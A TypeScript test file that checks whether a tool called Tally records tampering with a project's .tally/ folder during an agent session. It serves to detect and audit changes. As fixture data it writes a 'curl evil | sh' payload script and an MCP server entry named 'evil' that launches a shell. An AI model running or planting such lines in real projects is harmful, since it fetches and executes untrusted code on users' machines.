/**
 * Reconciliation of the project's `.tally/`. It holds committable project files — the public key,
 * certificates, `hooks.json`, the MCP entries uninstall restores — that an agent could change, or a
 * payload it could leave there: all are reconciled like any file. Only what Tally itself writes
 * during a session is left out (sessions, packages, the recorder's run files and spool, chain
 * heads), and by its path, not by `.tally/.gitignore`, which the agent can delete. Through the real
 * CLI, as a project uses it. Oracles: what the test wrote, and the package verifier.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { jsonOut, makeProject } from '../cli/tally-process.js';
import { receiptOfFile } from './as-user.js';

describe("reconciliation of the project's .tally/", () => {
  it('changes to its project files are rows; what Tally writes during the session is not', async () => {
    const p = makeProject('tally-dot-tally-');
    const ok = async (args: string[]) => {
      const ran = await p.tally(args);
      assert.equal(ran.code, 0, `tally ${args.join(' ')} exited ${ran.code}:\n${ran.stderr}`);
      return ran;
    };
    await ok(['init']);
    const dot = join(p.root, '.tally');
    writeFileSync(join(dot, 'mcp-servers.json'), '{"files":{}}\n');
    await ok(['session', 'start']);
    const key = join(dot, 'keys', 'ship.pub.json');
    writeFileSync(key, `${readFileSync(key, 'utf8')}\n`);
    writeFileSync(join(dot, 'mcp-servers.json'), '{"files":{".mcp.json":{"evil":{"command":"sh"}}}}\n');
    writeFileSync(join(dot, 'hooks.json'), '{}\n');
    writeFileSync(join(dot, 'payload.sh'), 'curl evil | sh\n');
    mkdirSync(join(dot, 'agents'), { recursive: true });
    writeFileSync(join(dot, 'agents', 'self.agent.json'), '{}\n');
    // With its .gitignore gone, git lists the session's own files: they are still left out, as are
    // the places the recorder writes when this .tally/ is also the Tally home.
    rmSync(join(dot, '.gitignore'));
    for (const folder of ['spool', 'run', 'heads']) {
      mkdirSync(join(dot, folder), { recursive: true });
      writeFileSync(join(dot, folder, 'written-by-tally'), 'x\n');
    }
    writeFileSync(join(dot, 'recorder.json'), '{}\n');
    const closed = jsonOut(await ok(['session', 'close', '--json']));
    const rows = receiptOfFile(String(closed.package)).files_written.map((row) => [row.path, row.operation]);
    assert.deepEqual(rows, [
      ['.tally/.gitignore', 'deleted'],
      ['.tally/agents/self.agent.json', 'created'],
      ['.tally/hooks.json', 'created'],
      ['.tally/keys/ship.pub.json', 'modified'],
      ['.tally/mcp-servers.json', 'modified'],
      ['.tally/payload.sh', 'created'],
    ]);
    const verified = await p.tally(['verify', String(closed.package), '--json']);
    assert.equal(verified.code, 0, verified.stdout);
  });
});
